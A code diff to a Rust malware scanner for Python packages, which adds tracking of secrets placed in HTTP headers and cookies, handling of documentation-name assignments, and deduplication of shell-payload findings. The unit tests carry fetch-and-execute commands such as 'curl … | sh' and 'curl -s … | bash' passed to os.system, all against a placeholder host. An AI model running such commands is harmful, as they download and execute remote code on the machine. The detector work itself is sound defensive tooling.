@@ -204,6 +204,8 @@ pub struct Checker<'s> {
     global_names: Vec<HashSet<String>>,
     /// True once the module read the clipboard (see the clipper rule).
     read_clipboard: bool,
+    /// Walking the value given to a name for documentation (`example = '…'`).
+    in_documentation_value: bool,
     /// The first wallet address literal of the module, with its currency.
     wallet_literal: Option<(String, &'static str)>,
     /// `with open(path, 'wb') as f`: the path each file handle name was last opened on, and
@@ -463,6 +465,7 @@ impl<'s> Checker<'s> {
             message_callbacks: HashSet::new(),
             global_names: Vec::new(),
             read_clipboard: false,
+            in_documentation_value: false,
             wallet_literal: None,
             handle_paths: HashMap::new(),
             process_commands: HashMap::new(),
@@ -1024,6 +1027,9 @@ impl<'s> Checker<'s> {
                 | "set_payload"
                 | "attach"
                 | "add_attachment"
+                // `session.cookies.set(name, secret)`: a cookie jar sent with each request.
+                | "set"
+                | "set_cookie"
         ) {
             return;
         }
@@ -1191,6 +1197,12 @@ impl<'s> Checker<'s> {
     /// True once the module was seen reading the clipboard.
     pub fn has_read_clipboard(&self) -> bool {
         self.read_clipboard
+    }
+
+    /// True while walking the value of an assignment to a documentation name
+    /// (`example = 'recursive:https://pastebin.com/raw/…'`, `usage`, `help_text`).
+    pub fn in_documentation_value(&self) -> bool {
+        self.in_documentation_value
     }
 
     /// Records a wallet address written as a literal (see `clipper::on_string`).
@@ -1752,6 +1764,24 @@ impl<'s> Checker<'s> {
                 return;
             }
             message = format!("{message}, through the call at line {site}");
+        }
+        // A shell payload literal reported on its own (`process_spawn::check_command_literal`)
+        // says no more once the call running it on the same line is reported.
+        if !tags.contains(&"command-literal") {
+            let severity = severity.clamp(0.0, 1.0);
+            self.findings.retain(|f| {
+                !(f.rule == rule.id
+                    && f.line == line
+                    && f.has_tag("command-literal")
+                    && f.severity <= severity)
+            });
+        } else if self.findings.iter().any(|f| {
+            f.rule == rule.id
+                && f.line == line
+                && !f.has_tag("command-literal")
+                && f.severity >= severity
+        }) {
+            return;
         }
         let snippet = self.snippet(range);
         self.findings.push(Finding {
@@ -2693,6 +2723,20 @@ impl<'s> Checker<'s> {
                         if let Some(source) = self.source_in(value) {
                             self.attribute_taints
                                 .insert(attribute.attr.as_str().to_owned(), source);
+                        }
+                    }
+                    // `session.headers['User-Agent'] = secret`: the client sends what its
+                    // headers hold with every request.
+                    Expr::Attribute(attribute)
+                        if matches!(attribute.attr.as_str(), "headers" | "cookies" | "params") =>
+                    {
+                        if let Expr::Name(client) = &*attribute.value
+                            && let Some(source) = self.source_in(value)
+                        {
+                            if self.scopes.is_module_binding(client.id.as_str()) {
+                                self.scopes.taint_module(client.id.as_str(), source);
+                            }
+                            self.scopes.taint(client.id.as_str(), source);
                         }
                     }
                     _ => {}
@@ -3790,7 +3834,11 @@ impl<'s> Visitor<'s> for Checker<'s> {
                 {
                     self.method_callers.insert(name.id.as_str(), call);
                 }
+                let documents = matches!(assign.targets.as_slice(), [Expr::Name(name)]
+                    if names_documentation(name.id.as_str()));
+                let outer = std::mem::replace(&mut self.in_documentation_value, documents);
                 self.visit_expr(&assign.value);
+                self.in_documentation_value = outer;
                 for target in &assign.targets {
                     if let Expr::Attribute(attribute) = target
                         && attribute.attr.as_str() == "Arguments"
@@ -4301,6 +4349,21 @@ impl<'s> Visitor<'s> for Checker<'s> {
     }
 }
 
+/// Names that hold documentation: an extractor's `example` input, a command's `usage` or
+/// `help_text`, a field's `description`.
+fn names_documentation(name: &str) -> bool {
+    let lower = name.to_ascii_lowercase();
+    let lower = lower.trim_matches('_');
+    matches!(
+        lower,
+        "example" | "examples" | "usage" | "help" | "help_text" | "description" | "doc" | "docs"
+    ) || lower.starts_with("example_")
+        || lower.ends_with("_example")
+        || lower.ends_with("_examples")
+        || lower.ends_with("_help")
+        || lower.ends_with("_usage")
+}
+
 #[cfg(test)]
 mod tests {
     #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
@@ -4350,7 +4413,7 @@ mod tests {
         assert!(max_severity("p/pkg/__init__.py", table, "WH120") >= 0.8);
         let get = "import os\ncmds = {'run': os.system}\ncmds.get('run')('curl https://example.invalid/x.sh | sh')\n";
         assert!(max_severity("p/pkg/__init__.py", get, "WH120") >= 0.8);
-        let other = "import os\ncmds = {'run': os.system, 'show': print}\ncmds['show']('curl https://example.invalid/x.sh | sh')\n";
+        let other = "import os\ncmds = {'run': os.system, 'show': print}\ncmds['show']('curl https://example.invalid/x.sh -o /tmp/x.sh')\n";
         assert!(max_severity("p/pkg/__init__.py", other, "WH120") < 0.5);
         let starmap = "import itertools, os\nlist(itertools.starmap(os.system, [('curl -s https://example.invalid/p | bash',)]))\n";
         assert!(max_severity("p/pkg/__init__.py", starmap, "WH120") >= 0.8);
